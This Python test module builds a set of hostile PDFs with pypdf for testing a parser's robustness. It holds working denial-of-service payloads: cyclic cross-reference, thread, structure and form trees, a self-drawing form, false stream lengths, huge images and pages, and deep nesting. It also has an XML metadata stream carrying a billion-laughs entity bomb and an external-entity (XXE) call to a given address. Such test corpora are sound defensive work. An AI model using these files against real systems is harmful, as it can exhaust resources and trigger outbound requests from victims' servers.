"""PDFs that lead back to themselves or lie about how large they are, one by one.

    python -m tests.pdf.hostile_trees FOLDER

writes them all into a folder, to be tried on something else.
"""

import sys

from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from tests.pdf.hostile import action, main, saved, writer


def has_a_table_that_leads_to_itself(address):
    whole = saved(writer())
    at = whole.rindex(b"startxref")
    start = whole[at:].split()[1]
    return whole.replace(b"trailer\n<<", b"trailer\n<<\n/Prev " + start, 1)


def has_threads_that_turn_round(address):
    made = writer()
    bead = action(T=NumberObject(0))
    place = made._add_object(bead)
    bead[NameObject("/N")] = bead[NameObject("/V")] = place
    thread = made._add_object(action(F=place))
    bead[NameObject("/T")] = thread
    made.root_object[NameObject("/Threads")] = ArrayObject([thread])
    made.pages[0][NameObject("/B")] = ArrayObject([place])
    return saved(made)


def has_tags_that_turn_round(address):
    made = writer()
    element = action(Type=NameObject("/StructElem"), S=NameObject("/P"))
    place = made._add_object(element)
    element[NameObject("/K")] = ArrayObject([place])
    tree = action(Type=NameObject("/StructTreeRoot"), K=ArrayObject([place]))
    element[NameObject("/P")] = made._add_object(tree)
    made.root_object[NameObject("/StructTreeRoot")] = element["/P"].indirect_reference
    return saved(made)


def has_a_table_of_tags_that_turns_round(address):
    made = writer()
    rows = action(Nums=ArrayObject())
    place = made._add_object(rows)
    rows[NameObject("/Kids")] = ArrayObject([place])
    tree = action(Type=NameObject("/StructTreeRoot"), ParentTree=place)
    made.root_object[NameObject("/StructTreeRoot")] = made._add_object(tree)
    return saved(made)


def has_names_that_turn_round(address):
    made = writer()
    names = action(Names=ArrayObject())
    place = made._add_object(names)
    names[NameObject("/Kids")] = ArrayObject([place])
    made.root_object[NameObject("/Names")] = action(Dests=place)
    return saved(made)


def draws_itself(address):
    made = writer()
    drawing = DecodedStreamObject()
    drawing.set_data(b"/Again Do")
    drawing[NameObject("/Subtype")] = NameObject("/Form")
    drawing[NameObject("/BBox")] = ArrayObject(map(NumberObject, (0, 0, 9, 9)))
    place = made._add_object(drawing)
    again = action(XObject=action(Again=place))
    drawing[NameObject("/Resources")] = again
    made.pages[0][NameObject("/Resources")] = again
    return saved(made)


def has_fields_that_turn_round(address):
    made = writer()
    field = action(T=TextStringObject("one"))
    place = made._add_object(field)
    field[NameObject("/Kids")] = ArrayObject([place])
    made.root_object[NameObject("/AcroForm")] = action(Fields=ArrayObject([place]))
    return saved(made)


def has_a_field_of_our_name(address):
    made = writer()
    field = action(
        Type=NameObject("/Annot"),
        Subtype=NameObject("/Widget"),
        FT=NameObject("/Sig"),
        T=TextStringObject("signature-001-service_lead"),
        Rect=ArrayObject(map(NumberObject, (9, 9, 99, 99))),
    )
    place = made._add_object(field)
    made.pages[0][NameObject("/Annots")] = ArrayObject([place])
    made.root_object[NameObject("/AcroForm")] = action(Fields=ArrayObject([place]))
    return saved(made)


def lies_about_a_length(address):
    made = writer()
    stream = DecodedStreamObject()
    stream.set_data(b"q Q " * 20)
    made.pages[0][NameObject("/Contents")] = made._add_object(stream)
    return saved(made).replace(b"/Length 80", b"/Length 99999999999")


def lies_about_a_picture(address):
    made = writer()
    picture = DecodedStreamObject()
    picture.set_data(b"x")
    for name, value in (
        ("Subtype", NameObject("/Image")),
        ("Width", NumberObject(1_000_000)),
        ("Height", NumberObject(1_000_000)),
        ("BitsPerComponent", NumberObject(8)),
        ("ColorSpace", NameObject("/DeviceRGB")),
    ):
        picture[NameObject(f"/{name}")] = value
    drawn = action(XObject=action(P=made._add_object(picture)))
    made.pages[0][NameObject("/Resources")] = drawn
    stream = DecodedStreamObject()
    stream.set_data(b"/P Do")
    made.pages[0][NameObject("/Contents")] = made._add_object(stream)
    return saved(made)


def has_a_page_as_large_as_a_town(address):
    made = writer()
    ends = map(NumberObject, (0, 0, 10**9, 10**9))
    made.pages[0][NameObject("/MediaBox")] = ArrayObject(ends)
    return saved(made)


def is_nested_without_end(address):
    deep = b"[" * 100_000 + b"]" * 100_000
    return saved(writer()).replace(b"/Type /Catalog", b"/Deep " + deep, 1)


def swells_in_what_it_says_of_itself(address):
    made = writer()
    said = DecodedStreamObject()
    more = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    said.set_data(
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">{more}<!ENTITY out SYSTEM'
        f' "{address}/x">]><x>&e9;&out;</x>'.encode()
    )
    said[NameObject("/Type")] = NameObject("/Metadata")
    said[NameObject("/Subtype")] = NameObject("/XML")
    made.root_object[NameObject("/Metadata")] = made._add_object(said)
    return saved(made)


PDFS = (
    has_a_table_that_leads_to_itself,
    has_threads_that_turn_round,
    has_tags_that_turn_round,
    has_a_table_of_tags_that_turns_round,
    has_names_that_turn_round,
    draws_itself,
    has_fields_that_turn_round,
    has_a_field_of_our_name,
    lies_about_a_length,
    lies_about_a_picture,
    has_a_page_as_large_as_a_town,
    is_nested_without_end,
    swells_in_what_it_says_of_itself,
)


if __name__ == "__main__":
    main(sys.argv[1], PDFS)
